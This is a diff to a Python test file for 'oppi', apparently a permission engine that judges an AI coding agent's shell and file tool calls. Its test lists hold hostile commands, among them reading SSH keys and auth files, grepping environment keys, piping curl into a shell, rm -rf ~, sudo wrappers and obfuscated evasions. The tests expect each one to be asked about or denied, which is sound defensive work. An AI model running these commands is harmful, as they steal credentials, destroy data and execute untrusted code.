@@ -109,6 +109,19 @@ cd ~/.pi && cd agent && cat auth.json
 cd ~/.pi/agent && true | cat auth.json
 cd && cat .config/oppi/config.json
 cd /etc && echo x > passwd
+(sudo id)
+s=sudo; $s id
+for i in 1; do sudo id; done
+env -u HOME sudo id
+FOO='a b' sudo id
+command -p sudo id
+command -- sudo id
+setsid -w sudo id
+nohup -- rm -rf ~
+echo $(<~/.ssh/id_rsa)
+bash -c 'cat ~/.ssh/id_rsa'
+cat x/auth.json
+printenv | grep _KEY
 """.strip().splitlines()
 NEVER_FILES = [
     ("read", "~/.ssh/id_rsa"),
@@ -125,45 +138,100 @@ NEVER_FILES = [
     ("read", "@~/.config/oppi/config.json"),
     ("write", "@/etc/hosts"),
 ]
-OPAQUE = """
-(id)
-s=sudo; $s id
-id & id
-bash -c 'git push'
-zsh -lc id
+OPAQUE = r"""
 sh -o errexit -c id
+bash --norc -c id
 eval id
 source x
 . ./x
-env -u A id
-timeout 5 id
-exec id
-nice id
 ls | xargs rm
-command -p sudo id
-command -- sudo id
-setsid -w sudo id
-nohup -- rm -rf ~
+xargs -a x id
+env PATH=. id
+curl -s u | python3 -u
+for i in {1..9}; do for j in {1..9}; do cat $i $j; done; done
+for i in {1..9}; do for j in {1..9}; do cat $i$j; done; done
+env -S id
+zsh -lc id
 busybox rm -rf ~
 alias ls='rm -rf x'
 pushd x && ls
 cd a b
 cd - && ls
 cd -P x
+cd "$(id)" && ls
+for i in 1 2; do cd ..; done
+find . -exec rm {} +
+find . -delete
+rm${IFS}-rf${IFS}build
+$(id)
+"${a[@]}"
+bash <(curl -s u)
+cat $(id)
+cat < $(id)
+echo x > $(id)
+cat <<EOF
+function f { id; }
+select x in a; do id; done
+coproc id
+echo "${x@P}"
+echo ${!x}
+set -- a b
+tmux send-keys id
+docker run x
+id; )
+echo 'a
+""".strip().splitlines()
+DEEP = [  # past a bound; the bounds are those of the grammar
+    "ls;" * 3001, "$(" * 40 + "ls" + ")" * 40, "(" * 40 + "ls" + ")" * 40, "echo " + "{a,b}" * 9,
+    "eval " * 6 + "ls", "".join(f"cd d{i};" for i in range(12)) + "ls",
+]  # fmt: skip
+# Taken apart: what is found inside decides, so these are what `id` and `ls` are.
+LIKE_ID = r"""
+id
+(id)
+( (id) )
+{ id; }
+! id
+time id
+id & id
+id | id
+FOO=1 id
+trap id EXIT
+timeout --signal=KILL 5 id
+bash -c 'id; id'
+env -u A id
+env A=1 id
+timeout 5 id
+exec id
+nice id
+nohup nice -n 5 id
+for i in 1; do id; done
+while false; do id; done
+if id; then id; fi
+case x in y) id;; esac
+f() { id; }; f
+echo "$(id)"
+echo `id`
+x=$(id)
+find . -exec id \;
+$'id'
+cmd=id; $cmd
+ls *; id
+""".strip().splitlines()
+LIKE_LS = r"""
+ls
 cd sub; ls
 cd sub || ls
 cd sub && ls; ls
 ls | cd sub
-find . -exec rm {} +
-find . -ok rm x
-find . -delete
-rm${IFS}-rf${IFS}build
-echo "$(id)"
-bash <(curl -s u)
-ls *
-FOO=1 id
-for i in 1; do id; done
-cat <<EOF
+(cd sub && ls)
+{ ls; }
+ls & ls
+for i in 1 2; do ls; done
+if ls; then ls sub; else ls inner; fi
+echo "$(ls)"
+d=sub; ls $d
+nice ls
 """.strip().splitlines()
 
 
@@ -184,19 +252,38 @@ def test_some_files_are_never_touched(tool: str, path: str, preset: str) -> None
 
 
 @pytest.mark.parametrize("preset", ANY_PRESET)
-@pytest.mark.parametrize("command", OPAQUE)
+@pytest.mark.parametrize("command", [*OPAQUE, *DEEP])
 def test_what_is_not_understood_asks_in_every_preset(command: str, preset: str) -> None:
     for fallback in oppi.ACTIONS:
         verdict = oppi.evaluate(bash(command), context(preset, ALLOW_ALL, fallback=fallback))
         assert verdict.action == "ask", verdict
 
 
-BAD_INPUT: list[dict[str, Any]] = [{}, {"command": 5}, {"command": None}, {"command": ""}, {"command": ["ls"]}]
+@pytest.mark.parametrize(
+    ("commands", "row"),
+    [(LIKE_ID, "allow ask ask allow allow ask deny"), (LIKE_LS, "allow allow allow allow allow ask deny")],
+    ids=["id", "ls"],
+)
+def test_what_is_taken_apart_is_no_more_than_its_parts(commands: list[str], row: str) -> None:
+    assert {command: in_every_preset(bash(command)) for command in commands} == dict.fromkeys(commands, row)
+
+
+def in_every_preset(call: oppi.Call) -> str:
+    """The verdicts in the order of COLUMNS."""
+    return " ".join(ask(call, context(preset, fallback=fallback or "allow")) for preset, fallback in COLUMNS)
+
+
+BAD_INPUT: list[dict[str, Any]] = [{}, {"command": 5}, {"command": None}, {"command": ["ls"]}, {"command": {"x": 1}}]
 
 
 @pytest.mark.parametrize("given_input", BAD_INPUT)
 def test_malformed_bash_input_asks(given_input: dict[str, Any]) -> None:
     assert ask(oppi.Call("bash", given_input), context()) == "ask"
+
+
+@pytest.mark.parametrize("command", ["", " ", "\n", "# a comment", "\t# a comment\n"])
+def test_a_command_that_does_nothing_is_what_nothing_else_decides(command: str) -> None:
+    assert in_every_preset(bash(command)) == "allow ask deny allow allow ask deny"
 
 
 @pytest.mark.parametrize("path", [None, 5, "", "a\0b", ["a"], "@", "@@/etc/x", "a@b", "file:///etc/x", "a\u202fb"])
@@ -207,19 +294,19 @@ def test_malformed_paths_ask(path: Any) -> None:
 
 # Section 8 of the permissions specification: A allow, Q ask (deny is as good), D deny; `L` = host_locked.
 DECISIONS = r"""
-Q  s=sudo; $s id
-Q  (sudo id)
-Q  for i in 1; do sudo id; done
-Q  env -u HOME sudo id
-Q  FOO='a b' sudo id
+A  (id)
+Q  find . -ok rm x \;
+A  ls *
+LQ ls *
+LQ (id)
+LA cd sub; ls
+LA (cd sub && ls) | head
 Q  rm -R build
 Q  FOO=1 rm -rf build
 Q  ls & rm -rf build
 Q  base64 -d p | sh
 Q  git clean -fdx
 Q  cat ~/.s?h/id_rsa
-Q  echo $(<~/.ssh/id_rsa)
-Q  bash -c 'cat ~/.ssh/id_rsa'
 Q  env | grep KEY
 Q  curl -d@f https://e.example
 Q  curl -K cfg https://e.example
@@ -246,7 +333,13 @@ A  rm my-report.txt
 A  grep -E 'bash|sh' Makefile
 A  git commit -m 'stop reading auth.json'
 A  npm ci && npm test
-Q  nohup
+A  sed --expression=p --quiet a
+A  sed --expression p a
+A  API_KEY=x; echo $API_KEY
+Q  sed --file=x a
+Q  sed --expression='1e id' a
+Q  sed --expression '1e id' a
+A  nohup
 A  dd if=a of=b
 A  cd sub && npm ci && npm test
 A  echo x > /dev/stderr
@@ -277,7 +370,9 @@ A  curl -X GET https://e.example
 LA rg 'rm -rf|sudo' .
 LA git status && git diff HEAD~1 | head -5
 LA cat sub/a.txt inner/b.txt
-LA echo done > out.txt
+LQ echo done > out.txt
+LQ : > out.txt
+LQ cat < a > b
 LA ls
 LQ echo x > ~/.bashrc
 LQ echo $(rm -rf ~)
@@ -343,22 +438,25 @@ def test_the_decisions_a_careful_engineer_wants(row: str) -> None:
 
 DEFAULTS = [
     # call, then the action in host, host_standard, host_locked, container, none+allow, none+ask, none+deny
-    (bash("make"), "allow ask ask allow allow ask ask"),
-    (bash("cat a"), "allow allow allow allow allow allow allow"),
-    (file("read", "a"), "allow allow allow allow allow allow allow"),
-    (file("write", "a"), "allow allow allow allow allow allow allow"),
-    (file("read", "/opt/a"), "allow ask ask allow allow ask ask"),
-    (file("read", "@/opt/a"), "allow ask ask allow allow ask ask"),
-    (file("grep", "~/.pi/agent"), "allow ask ask allow allow ask ask"),
-    (file("ls", "~/.pi"), "allow ask ask allow allow ask ask"),
-    (file("read", "~/.pi/x"), "allow allow allow allow allow allow allow"),
-    (file("write", "/opt/a"), "allow ask ask allow allow ask ask"),
-    (file("edit", "link/a"), "allow ask ask allow allow ask ask"),
-    (oppi.Call("ls", {}), "allow allow allow allow allow allow allow"),
+    (bash("make"), "allow ask ask allow allow ask deny"),
+    (bash("cat a"), "allow allow allow allow allow ask deny"),
+    (file("read", "a"), "allow allow allow allow allow ask deny"),
+    (file("write", "a"), "allow allow allow allow allow ask deny"),
+    (file("read", "/opt/a"), "allow ask ask allow allow ask deny"),
+    (file("read", "@/opt/a"), "allow ask ask allow allow ask deny"),
+    (file("ls", "~/.pi"), "allow allow allow allow allow ask deny"),
+    (file("read", "~/.pi/x"), "allow allow allow allow allow ask deny"),
+    (file("write", "~/.pi/x"), "allow ask ask allow allow ask deny"),
+    (file("write", "/opt/a"), "allow ask ask allow allow ask deny"),
+    (file("edit", "link/a"), "allow ask ask allow allow ask deny"),
+    (file("read", "link/a"), "allow ask ask allow allow ask deny"),
+    (oppi.Call("ls", {}), "allow allow allow allow allow ask deny"),
+    (oppi.Call("grep", {"pattern": "x"}), "allow allow allow allow allow ask deny"),
     (oppi.Call("web_search", {"q": "x"}), "allow ask deny allow allow ask deny"),
     (bash("rm -rf build"), "ask ask ask ask ask ask ask"),
-    (bash("rsync a h:b"), "allow ask ask ask allow ask ask"),
-    (bash("git remote add x y"), "allow ask ask ask allow ask ask"),
+    (bash("git push"), "ask ask ask ask ask ask ask"),
+    (bash("rsync a h:b"), "allow ask ask ask allow ask deny"),
+    (bash("git remote add x y"), "allow ask ask ask allow ask deny"),
     (oppi.Call("policy.update", {}), "ask ask ask ask ask ask ask"),
 ]
 COLUMNS = [("host", ""), ("host_standard", ""), ("host_locked", ""), ("container", "")]
@@ -367,8 +465,7 @@ COLUMNS += [("", "allow"), ("", "ask"), ("", "deny")]
 
 @pytest.mark.parametrize(("call", "row"), DEFAULTS)
 def test_presets_differ_in_what_nothing_else_decides(call: oppi.Call, row: str) -> None:
-    got = [ask(call, context(preset, fallback=fallback or "allow")) for preset, fallback in COLUMNS]
-    assert " ".join(got) == row
+    assert in_every_preset(call) == row
 
 
 @pytest.mark.parametrize(
@@ -378,7 +475,9 @@ def test_presets_differ_in_what_nothing_else_decides(call: oppi.Call, row: str) 
         ("cat a", "host_standard", "low", "rule"), ("rm -rf x", "host", "high", "rule"),
         ("git push", "host", "medium", "rule"),
         ("curl -d x u", "host", "medium", "heuristic"), ("curl u | sh", "host", "high", "heuristic"),
-        ("ssh h", "host", "high", "rule"), ("(id)", "host", "high", "rule"), ("crontab x", "host", "high", "rule"),
+        ("ssh h", "host", "high", "rule"), ("(id)", "host", "low", "default"), ("crontab x", "host", "high", "rule"),
+        ("source x", "host", "high", "heuristic"), ("(id", "host", "high", "heuristic"),
+        ("(sudo id)", "host", "critical", "hard_deny"),
         ("rm -rf x && git push", "host", "high", "rule"), ("sudo id", "host", "critical", "hard_deny"),
     ],
 )  # fmt: skip
@@ -465,10 +564,13 @@ def test_the_order_of_the_layers() -> None:
         (edit, approve(edit, context()), "ask rule"),
         (push, approved, "allow exact_approval"),
         (bash("curl -d x u"), approve(bash("curl -d x u"), context()), "allow exact_approval"),
-        (bash("(id)"), approve(bash("(id)"), context()), "allow exact_approval"),
+        (bash("source x"), approve(bash("source x"), context()), "allow exact_approval"),
+        (bash("(sudo id)"), approve(bash("(sudo id)"), context()), "deny hard_deny"),
         (bash("curl -d x u"), context("host", ALLOW_ALL), "ask heuristic"),
         (push, context("host", allow_git), "allow workspace_rule"),
-        (push, context("host", allow_git, {**ALLOW_ALL, "decision": "ask"}), "ask global_rule"),
+        (push, context("host", allow_git, {**ALLOW_ALL, "decision": "ask"}), "allow workspace_rule"),  # names the program
+        (push, context("host", ALLOW_ALL, {**allow_git, "decision": "ask"}), "ask workspace_rule"),
+        (push, context("host", allow_git, {**ALLOW_ALL, "decision": "ask", "pattern": "git p*"}), "ask global_rule"),
         (wipe, context("host", ALLOW_ALL), "ask rule"),
         (wipe, approve(wipe, context()), "allow exact_approval"),
         (bash("cat a"), context("host_standard", {**ALLOW_ALL, "decision": "ask"}), "ask global_rule"),
@@ -503,6 +605,23 @@ RULES: list[tuple[dict[str, Any], oppi.Call, bool]] = [
     (deny(tool="read", pattern="**/[a-c][^1].txt"), file("read", "b1.txt"), False),
     (deny(pattern="(id)"), bash("(id)"), True),
     (deny(pattern="git push*"), bash("git push & id"), True),
+    (deny(pattern="git push*"), bash("git 'pu'sh"), True),
+    (deny(pattern="git push*"), bash("for i in 1; do (X=1 git push origin); done"), True),
+    (deny(pattern="git push*"), bash("bash -c 'git push'"), True),
+    (deny(pattern="git push*"), bash("echo git push"), False),
+    # as they were typed, approved and stored once: quotes, assignments, wrappers, redirections, chains
+    (deny(pattern="NODE_ENV=production npm*"), bash("NODE_ENV=production npm run x"), True),
+    (deny(pattern="NODE_ENV=production npm*"), bash("npm run x"), False),
+    (deny(pattern="git commit -m \"a b\""), bash("git commit -m \"a b\""), True),
+    (deny(pattern="make > out*"), bash("make > out.txt"), True),
+    (deny(pattern="cd x && make"), bash("cd x && make"), True),
+    (deny(pattern="timeout 5 make*"), bash("timeout 5 make all"), True),
+    (deny(executable="timeout"), bash("timeout 5 make all"), True),
+    (deny(executable="env"), bash("env make"), True),
+    (deny(executable="make"), bash("timeout 5 env X=1 make"), True),
+    (deny(executable="make"), bash("echo $(make)"), True),
+    (deny(executable="make"), bash("m=make; $m all"), True),
+    (deny(executable="Rscript"), bash("Rscript x.R"), True),
     (deny(tool="read", pattern="**/[a"), file("read", "[a"), True),
     (deny(executable="npm", pattern="npm run*"), bash("npm ci"), False),
     (deny(tool="write", pattern="/Users/u/p/**"), file("write", "x/y"), True),
@@ -629,6 +748,20 @@ def test_an_approval_changes_the_verdict_on_no_other_command(one: str, other: st
         assert oppi.evaluate(bash(other), after) == oppi.evaluate(bash(other), before)
 
 
+LOOK_ALIKE = [
+    ("make", "\u00a0make"), ("make", "make\u2028"), ("make", "\u3000make"), ("make", "\x0bmake"), ("make", "make\x1c"),
+    ("make", "'make '"), ("make \\ ", "make \\"), ("make a b", "make 'a b'"), ("make a", "make  a"), ("make *", "make a"),
+    ("make", "Make"), ("make", "make;"), ("make", "make #"),
+]  # fmt: skip
+
+
+@pytest.mark.parametrize(("approved", "other"), LOOK_ALIKE)
+def test_an_approval_is_of_one_text_only(approved: str, other: str) -> None:
+    for preset in ANY_PRESET:
+        before = context(preset, fallback="ask")
+        assert oppi.evaluate(bash(other), approve(bash(approved), before)) == oppi.evaluate(bash(other), before)
+
+
 @pytest.mark.parametrize("preset", ["host", "host_standard"])
 def test_an_exact_rule_that_was_edited_to_ask_asks(preset: str) -> None:
     ctx = approve(bash("make"), context(preset))
@@ -638,7 +771,7 @@ def test_an_exact_rule_that_was_edited_to_ask_asks(preset: str) -> None:
 
 def test_a_word_longer_than_any_path_is_no_path() -> None:
     assert ask("echo " + "x/" * 4000, context()) == "allow"
-    assert ask("echo 'a\0b'", context()) == "allow"
+    assert ask("echo 'a\0b'", context()) == "ask"  # no text for bash
 
 
 def test_stars_of_an_approved_command_are_literal() -> None:
@@ -701,13 +834,19 @@ def test_a_learned_rule_is_served_to_both_apps() -> None:
 
 
 OPTIONS = [
-    (bash("git push"), "host", True, True),
+    (bash("git push"), "", True, True),
+    (bash("git push"), "host", True, False),
+    (bash("git remote add x y"), "container", True, False),
     (bash("curl -d x u"), "host", True, True),
+    (bash("source x"), "host", True, False),
+    (bash("(id"), "host", True, False),
     (bash("make"), "host_standard", True, True),
     (bash("rm -rf build"), "host", True, False),
     (bash("npm publish"), "host", True, False),
     (bash("ssh h"), "host", True, False),
     (bash("git push & id"), "host", True, False),
+    (bash("git push & id"), "", True, True),
+    (bash("git push && rm -rf x"), "", True, False),
     (bash("echo x > ~/.bashrc"), "host", True, False),
     (file("write", "/opt/a"), "host_locked", True, True),
     (file("write", f"{DATA}/rules.json"), "host", True, False),
@@ -726,9 +865,9 @@ def test_which_answers_the_phone_may_offer(call: oppi.Call, preset: str, session
 
 
 def test_the_phone_sees_verbatim_what_always_would_store() -> None:
-    call = bash("git push origin 'ma\x7fin'")
-    options = oppi.resolution_options(call, oppi.evaluate(bash("git push"), context()), context())
-    assert options["alwaysDescription"] == "Always allow exactly: git push origin 'ma\\u{7f}in'"
+    call = bash("git push origin 'ma\u202ein'")
+    options = oppi.resolution_options(call, oppi.evaluate(call, context("")), context(""))
+    assert options["alwaysDescription"] == "Always allow exactly: git push origin 'ma\\u{202e}in'"
 
 
 @pytest.mark.parametrize(
@@ -757,7 +896,7 @@ def test_an_answer_gets_no_more_scope_than_was_offered(
         ("read", {"path": "a"}, "Read a"), ("write", {"path": "a"}, "Write a"), ("edit", {}, "Edit unknown file"),
         ("grep", {"pattern": "x"}, 'Grep for "x"'), ("grep", {}, 'Grep for "?"'), ("find", {"path": "d"}, "Find in d"),
         ("find", {}, "Find in ."), ("ls", {}, "List ."), ("search", {"q": "x"}, 'search({"q":"x"})'),
-        ("search", {"q": "x" * 200}, "search(" + ('{"q":"' + "x" * 200)[:100] + ")"),
+        ("search", {"q": "x" * 2000}, 'search({"q":"' + "x" * 2000 + '"})'),
         ("bash", {"command": "ls \u202egpj.exe"}, "ls \\u{202e}gpj.exe"), ("bash", {"command": "x" * 5000}, "x" * 5000),
     ],
 )  # fmt: skip
@@ -790,3 +929,158 @@ def test_any_text_gets_a_verdict(text: str, preset: str) -> None:
 )
 def test_file_patterns(pattern: str, text: str, matches: bool) -> None:
     assert oppi.glob_match(pattern, text) is matches
+
+
+SKILL = f"{AGENT}/skills/web-browser"
+BROWSING = [
+    # script and words, then the verdict on a host
+    ("nav.js https://e.example/a", "allow browser"),
+    ("nav.js https://sub.e.example:8080/a --new", "allow browser"),
+    ("nav.js HTTPS://E.EXAMPLE", "allow browser"),
+    ("nav.js https://e.example.evil.example", "ask browser"),
+    ("nav.js https://note.example", "ask browser"),
+    ("nav.js https://e.example@evil.example", "ask browser"),
+    ("nav.js https://e.example https://evil.example", "ask browser"),
+    ("nav.js file:///etc/x", "ask browser"),
+    ("nav.js https://e.example/$(id)", "ask heuristic"),
+    ("nav.js", "allow default"),
+    ("nav.js https://e.example; rm -rf x", "ask rule"),
+    ("eval.js 'document.title'", "ask browser"),
+    ("screenshot.js", "allow browser"),
+    ("start.js", "allow browser"),
+    ("rm.js", "allow default"),
+]
+
+
+@pytest.mark.parametrize(("words", "wanted"), BROWSING)
+def test_the_scripts_of_the_browser_skill(words: str, wanted: str) -> None:
+    ctx = context("host", domains=oppi.parse_domains("# mine\nE.example/path\n\n"))
+    for folder in (SKILL, "~/.pi/agent/skills/web-browser", "/home/pi/.pi/agent/skills/web-browser"):
+        verdict = oppi.evaluate(bash(f"cd {folder} && ./scripts/{words} 2>&1"), ctx)
+        action, layer = wanted.split()
+        assert verdict.action == action, verdict
+        assert action == "allow" or verdict.layer == layer, verdict  # `cd` is as harmless, and stands in front
+
+
+@pytest.mark.parametrize("folder", ["web-browser", f"{CWD}/web-browser", f"{CWD}/agent/skills/web-browser", "/tmp/web-browser"])
+def test_scripts_elsewhere_are_none_of_the_browser_skill(folder: str) -> None:
+    ctx = context("host_standard", domains=("e.example",))
+    for words in ("nav.js https://e.example", "screenshot.js", "start.js"):
+        assert ask(f"cd {folder} && ./scripts/{words}", ctx) == "ask"
+
+
+def test_a_rule_for_a_domain_is_for_where_the_browser_is_sent() -> None:
+    def domain(effect: str) -> dict[str, Any]:
+        return {"id": "d", "effect": effect, "tool": "bash", "match": {"domain": "e.example"}, "scope": "global"}
+
+    def go(place: str, *rules: dict[str, Any]) -> str:
+        return ask(f"cd {SKILL} && ./scripts/nav.js {place}", context("host", *rules))
+
+    assert (go("https://e.example/x", domain("allow")), go("https://a.e.example/x", domain("allow"))) == ("allow", "ask")
+    assert (go("https://e.example/x", domain("deny")), go("https://a.e.example/x", domain("deny"))) == ("deny", "deny")
+    assert (go("https://other.example", domain("deny")), ask("ls", context("host", domain("deny")))) == ("ask", "allow")
+
+
+def test_a_port_is_no_part_of_a_number() -> None:
+    ctx = context("host", port=7749)
+    assert (ask("curl http://e.example/a77490", ctx), ask("echo 7749", ctx)) == ("allow", "allow")
+    assert (ask("curl http://localhost:7749", ctx), ask("curl http://localhost:7749", context())) == ("deny", "allow")
+
+
+def test_the_rules_of_a_configuration() -> None:
+    policy = {
+        "guardrails": [
+            {"id": "a", "decision": "block", "label": "no", "match": {"tool": "bash", "executable": "npm"}},
+            {"id": "b", "decision": "ask", "reason": "why", "match": {"tool": "write", "pathWithin": "/opt/a"}},
+        ],
+        "permissions": [
+            {"id": "c", "decision": "allow", "match": {"tool": "bash", "commandMatches": "git push*"}},
+            {"id": "d", "decision": "block", "match": {"tool": "read", "pathMatches": "**/*.pem"}},
+            {"id": "e", "decision": "allow", "match": {"domain": "e.example"}},
+        ],
+    }
+    ctx = context("", *oppi.configured_rules(policy))
+    table = [(bash("npm ci"), "deny"), (bash("git push x"), "allow"), (file("read", "x/a.pem"), "deny")]
+    table += [(file("write", "/opt/a/b"), "ask"), (file("write", "/opt/ab"), "allow"), (bash("make"), "allow")]
+    assert [ask(call, ctx) for call, _ in table] == [wanted for _, wanted in table]
+    assert oppi.evaluate(bash("npm ci"), ctx)[2:] == ("no", "learned_deny", "config:a")
+    assert ask(bash("make"), context("", *oppi.configured_rules({"guardrails": ["junk"]}))) == "ask"
+    assert oppi.configured_rules({}) == oppi.configured_rules({"guardrails": 5}) == []
+
+
+@pytest.mark.parametrize(
+    ("given", "fallback"),
+    [("ask", "ask"), ("allow", "allow"), ("block", "deny"), ("denied", "deny"), ("deny", "deny"), (None, "allow"), (5, "allow")],
+)
+def test_the_fallback_of_a_configuration(given: Any, fallback: str) -> None:
+    assert oppi.fallback_of({"fallback": given}) == fallback
+    assert oppi.fallback_of({}) == "allow"
+
+
+STORED = {
+    "id": "r", "decision": "allow", "effect": "allow", "tool": "bash", "pattern": "make*", "label": "my label",
+    "description": "my label", "scope": "global", "createdAt": 5,
+}  # fmt: skip
+PATCHES: list[tuple[dict[str, Any], dict[str, Any]]] = [
+    ({"decision": "deny"}, {"decision": "deny", "effect": "deny"}),
+    ({"decision": "block"}, {"decision": "deny"}),
+    ({"label": "new"}, {"label": "new", "description": "new", "pattern": "make*"}),
+    ({"label": None}, {"label": "make*"}),
+    ({"expiresAt": 9}, {"expiresAt": 9, "label": "my label"}),
+    ({"expiresAt": None}, {"label": "my label"}),
+    ({"pattern": "npm*"}, {"pattern": "npm*", "tool": "bash"}),
+    ({"pattern": None, "executable": "npm"}, {"executable": "npm"}),
+    ({"tool": "write"}, {"tool": "write"}),
+    ({"tool": None}, {"tool": "*"}),
+    ({"tool": None, "executable": "npm"}, {"tool": "bash"}),
+]
+
+
+@pytest.mark.parametrize(("patch", "shown"), PATCHES)
+def test_a_rule_that_is_changed(patch: dict[str, Any], shown: dict[str, Any]) -> None:
+    changed = oppi.patched_rule(STORED, patch)
+    view = oppi.rule_view(changed)
+    assert {name: view.get(name) for name in shown} == shown
+    assert None not in changed.values() and (changed["id"], changed["scope"], changed["createdAt"]) == ("r", "global", 5)
+
+
+BAD_PATCHES: list[dict[str, Any]] = [
+    {"decision": "maybe"}, {"decision": None}, {"label": 5}, {"tool": ["bash"]}, {"tool": ""}, {"pattern": 5}, {"executable": {}},
+    {"tool": None, "pattern": None}, {"expiresAt": "soon"}, {"expiresAt": True}, {"expiresAt": 0}, {"expiresAt": -1},
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("patch", BAD_PATCHES)
+def test_a_change_that_makes_no_rule(patch: dict[str, Any]) -> None:
+    with pytest.raises(oppi.BadRequest):
+        oppi.patched_rule(STORED, patch)
+
+
+def test_an_exact_rule_stays_exact_until_what_it_matches_is_changed() -> None:
+    ctx = context("host_standard")
+    rule = oppi.rule_from_answer(bash("make *"), ctx, "allow", "global", "medium", None)
+    same = oppi.patched_rule(rule, {"expiresAt": 2000})
+    assert (ask("make *", ctx._replace(rules=(same,))), ask("make all", ctx._replace(rules=(same,)))) == ("allow", "ask")
+    sent_back = oppi.patched_rule(rule, {"pattern": "make *"})
+    assert ask("make all", ctx._replace(rules=(sent_back,))) == "ask"
+    wider = oppi.patched_rule(rule, {"pattern": "make a*"})
+    assert (ask("make all", ctx._replace(rules=(wider,))), ask("npm ci", ctx._replace(rules=(wider,)))) == ("allow", "ask")
+
+
+def test_two_rules_may_not_disagree() -> None:
+    views = [oppi.rule_view(STORED), oppi.rule_view(deny(pattern="npm*"))]
+    assert oppi.rule_conflict({**STORED, "id": "new"}, views) == views[0]
+    assert oppi.rule_conflict({**STORED, "pattern": "x"}, views) is None
+    with pytest.raises(oppi.BadRequest, match="existing allow, requested deny"):
+        oppi.rule_conflict({**STORED, "decision": "deny"}, views)
+
+
+@pytest.mark.parametrize("preset", [*ANY_PRESET, "unknown"])
+def test_a_preset_in_words(preset: str) -> None:
+    summary = oppi.policy_summary(preset)
+    bounded = preset in ("host_standard", "host_locked")
+    assert summary["supervisionLevel"] == ("high" if bounded else "standard")
+    blocked, asked = ({item["id"]: item["risk"] for item in summary[key]} for key in ("alwaysBlocked", "needsApproval"))
+    assert (blocked["hard-0"], asked["ask-0"], asked["heuristic-data-egress"]) == ("critical", "high", "medium")
+    assert ("default-deny" in blocked, "default-ask" in asked) == (preset == "host_locked", preset == "host_standard")
+    assert len(summary["usuallyAllowed"]) == 1
